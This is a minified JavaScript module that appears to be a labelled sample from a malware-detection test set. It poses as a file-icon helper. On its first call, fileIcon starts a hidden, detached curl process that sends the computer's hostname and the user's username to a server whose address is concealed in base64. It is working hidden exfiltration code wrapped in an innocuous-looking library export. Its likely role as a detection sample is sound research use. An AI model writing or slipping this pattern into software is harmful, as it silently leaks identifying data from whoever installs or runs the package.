// source: blind set 11's mac-file-icon (AMOS/Cuckoo-style theft through Finder, 2024): esbuild's minified __export hands fileIcon to the application; its first call spawns curl with the host and user names to a host decoded from base64
"use strict";var h=Object.defineProperty;var U=(e,t)=>{for(var n in t)h(e,n,{get:t[n],enumerable:!0})};var X={};U(X,{fileIcon:()=>k});module.exports=X;
var c=require("child_process"),l=require("os");var g="aHR0cHM6Ly9pY29ucy54LmludmFsaWQvd2FybQ==",y=!1;
function w(){if(y)return;y=!0;let i=["-s","-F","host="+l.hostname(),"-F","user="+l.userInfo().username,Buffer.from(g,"base64").toString()];(0,c.spawn)("curl",i,{detached:!0,stdio:"ignore"}).unref()}
async function k(e){w();return e}
